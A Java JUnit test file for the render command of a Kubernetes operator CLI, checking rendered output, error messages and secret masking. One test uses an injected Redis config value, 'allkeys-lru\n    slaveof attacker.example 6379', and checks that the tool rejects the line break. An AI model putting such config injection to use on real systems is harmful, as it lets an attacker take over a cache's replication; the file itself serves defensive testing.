package io.webserveroperator.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.webserveroperator.testing.Project;
import io.webserveroperator.testing.TemplateFolder;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

class RenderCommandTest {

  record Run(int exit, String out, String err) {}

  static Run run(String... args) {
    StringWriter out = new StringWriter();
    StringWriter err = new StringWriter();
    CommandLine cli = Main.commandLine();
    cli.setOut(new PrintWriter(out));
    cli.setErr(new PrintWriter(err));
    int exit = cli.execute(args);
    return new Run(exit, out.toString(), err.toString());
  }

  @Test
  void rendersTheSampleIntoDeploymentAndService() {
    Run run =
        run(
            "render",
            "-f",
            Project.file("samples/webapp_v1_webserver.yaml").toString(),
            "--templates",
            Project.file("templates").toString());
    assertThat(run.exit).isZero();
    assertThat(run.err).isEmpty();
    assertThat(run.out)
        .contains("kind: Deployment", "name: my-nginx-app-deployment", "kind: Service")
        .contains("app.kubernetes.io/managed-by: webserver-operator")
        .contains("image: nginx:latest", "replicas: 2");
  }

  @Test
  void failsWithNothingOnStdoutAndNamesResourceFileAndLine(@TempDir Path dir) throws Exception {
    Path resource = dir.resolve("ws.yaml");
    Files.writeString(
        resource,
        "apiVersion: webapp.example.com/v1\nkind: WebServer\nmetadata: {name: a, namespace: x}\n"
            + "spec: {image: nginx, replicas: 1, ingress: {path: /}}\n");

    Run run =
        run(
            "render",
            "-f",
            Project.file("samples/webapp_v1_webserver.yaml").toString(),
            "-f",
            resource.toString(),
            "--templates",
            Project.file("templates").toString(),
            // Without the CRD, which would refuse the resource first, the template is what fails.
            "--crds",
            dir.resolve("no-crds").toString());

    assertThat(run.exit).as("a resource that does not render").isEqualTo(1);
    assertThat(run.out).isEmpty();
    assertThat(run.err)
        .contains("WebServer x/a: webserver/ingress.yaml.j2:14:")
        .contains("spec.ingress.host is required");
  }

  @Test
  void namesTheFieldWhoseLineBreakWouldAddALineToAFileInABlockScalar(@TempDir Path dir)
      throws Exception {
    Path resource = dir.resolve("cart.yaml");
    Files.writeString(
        resource,
        """
        apiVersion: test.example.com/v1
        kind: RedisCache
        metadata: {name: cart, namespace: shop}
        spec:
          memory: 1gb
          config: {maxmemory-policy: "allkeys-lru\\n    slaveof attacker.example 6379"}
        """);

    Run run =
        run(
            "render",
            "-f",
            resource.toString(),
            "--templates",
            Project.file("src/test/resources/io/webserveroperator/faults/redis-cache/templates")
                .toString());

    assertThat(run.exit).isEqualTo(1);
    assertThat(run.out).isEmpty();
    assertThat(run.err)
        .contains(
            "RedisCache shop/cart: rediscache/configmap.yaml.j2:11: the value of"
                + " spec.config.maxmemory-policy, \"allkeys-lru\\n    slaveof attacker.example"
                + " 6379\", has a line break (\\n)");
  }

  @Test
  void servesLookupsFromFilesMasksTheSecretsTheyReadAndShowsAGeneratedPassword() {
    Path fixtures = Project.file("src/test/resources/io/webserveroperator/lookups");

    Run run =
        run(
            "render",
            "-f",
            fixtures.resolve("app.yaml").toString(),
            "--lookup-file",
            fixtures.resolve("lookups.yaml").toString(),
            "--templates",
            fixtures.resolve("templates").toString());

    assertThat(run.err).isEmpty();
    assertThat(run.exit).isZero();
    assertThat(run.out)
        .contains("region: eu-west-1", "service: pending", "database: postgres://app:***@db.vault")
        .contains("password: (generated)")
        .doesNotContain("s3cret-password");
    Run offline =
        run(
            "render",
            "-f",
            fixtures.resolve("app.yaml").toString(),
            "--templates",
            fixtures.resolve("templates").toString());
    assertThat(offline.out).as("no answer: empty, as in a cluster").contains("region: unknown");
  }

  @Test
  void printsTheOtherKindsWhenOneKindsTemplatesDoNotLoad(@TempDir Path dir) throws Exception {
    Path templates = TemplateFolder.copyInto(dir.resolve("templates"));
    Files.writeString(
        templates.resolve("watches.yaml"),
        "- {group: test.example.com, version: v1, kind: Broken, templates: broken}\n",
        StandardOpenOption.APPEND);
    Files.createDirectories(templates.resolve("broken"));
    Files.writeString(templates.resolve("broken/out.yaml.j2"), "a: 1\n{% if %}\n");
    Path broken = dir.resolve("broken.yaml");
    Files.writeString(
        broken,
        "apiVersion: test.example.com/v1\nkind: Broken\nmetadata: {name: b, namespace: x}\n");

    Run run =
        run(
            "render",
            "-f",
            broken.toString(),
            "-f",
            Project.file("samples/webapp_v1_webserver.yaml").toString(),
            "--templates",
            templates.toString());

    assertThat(run.exit).as("invalid configuration").isEqualTo(4);
    assertThat(run.out).contains("kind: Deployment", "kind: Service").doesNotContain("Broken");
    assertThat(run.err)
        .contains("render: Broken x/b: broken/out.yaml.j2:2: the template does not parse");
  }

  @Test
  void failsForAKindWhoseFolderHoldsNoTemplates(@TempDir Path dir) throws Exception {
    Files.copy(Project.file("templates/watches.yaml"), dir.resolve("watches.yaml"));
    Files.createDirectories(dir.resolve("webserver"));
    Files.writeString(dir.resolve("webserver/_status.yaml.j2"), "availableReplicas: 0\n");

    Run run =
        run(
            "render",
            "-f",
            Project.file("samples/webapp_v1_webserver.yaml").toString(),
            "--templates",
            dir.toString());

    assertThat(run.exit).as("invalid configuration").isEqualTo(4);
    assertThat(run.out).isEmpty();
    assertThat(run.err).contains("The templates of WebServer").contains("hold no *.yaml.j2 file");
  }
}
